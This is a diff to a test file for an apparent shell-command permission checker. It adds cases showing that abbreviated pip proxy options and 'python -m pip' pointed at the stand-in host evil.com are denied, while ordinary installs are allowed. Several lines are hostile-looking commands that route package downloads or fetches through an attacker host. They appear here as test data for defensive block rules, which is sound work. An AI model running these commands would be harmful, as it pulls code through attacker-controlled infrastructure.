@@ -272,6 +272,9 @@ describe('option forms and names the readers first missed', () => {
     [`node -e 'fetch("https:evil.com)")'`, 'deny'], ['go env -w GOPROXY=https://evil.com,direct', 'deny'],
     // Package managers' hosts written without a scheme: a proxy, npm's git specs.
     ['pip install --proxy evil.com:8080 x', 'deny'], ['pip --proxy=evil.com:8080 install x', 'deny'],
+    // (pip reads a long option by any unambiguous prefix, and `python -m pip` is pip: hunt 7, F5.)
+    ['pip install --prox evil.com:1 x', 'deny'], ['pip --prox=evil.com:1 install x', 'deny'], ['pip3 download --pr evil.com:1 x', 'deny'],
+    ['python3 -m pip install --proxy evil.com:1 x', 'deny'], ['python -mpip download --prox evil.com x', 'deny'], ['python3 -m pip install "$P"', 'ask'],
     [`cargo --config 'http.proxy="evil.com:8080"' install x`, 'deny'], ["cargo --config=http.proxy='evil.com:8080' install x", 'deny'],
     ['npm i git@evil.com:x/y.git', 'deny'], ['pnpm add u@evil.com:x/y', 'deny'],
     // URLs a table command fetches.
@@ -303,7 +306,8 @@ describe('option forms and names the readers first missed', () => {
   });
   it.each(['make -j$(nproc)', 'make VERSION=$(git describe)', 'make install PREFIX=$HOME/.local', 'docker run --mount type=bind,source="$(pwd)",target=/app img',
     'docker run -v "$HOME/.npm":/root/.npm img', 'docker container run alpine ls -v /etc:/x', 'getopts ab opt "$@"', 'pg_dump mydb', 'psql -h localhost -c "select 1"',
-    "node -e 'fetch(`http://[::1]:8080`)'", "node -e 'fetch(`https://good.com`)'", 'npm i @scope/pkg@1.0.0', 'pip install --proxy proxy.corp:3128 x'])('%s stays allowed', (line) => {
+    "node -e 'fetch(`http://[::1]:8080`)'", "node -e 'fetch(`https://good.com`)'", 'npm i @scope/pkg@1.0.0', 'pip install --proxy proxy.corp:3128 x',
+    'python3 -m pip install -r requirements.txt', 'python3 -m pip install --pre -e .', 'pip install --prefix ./venv x'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
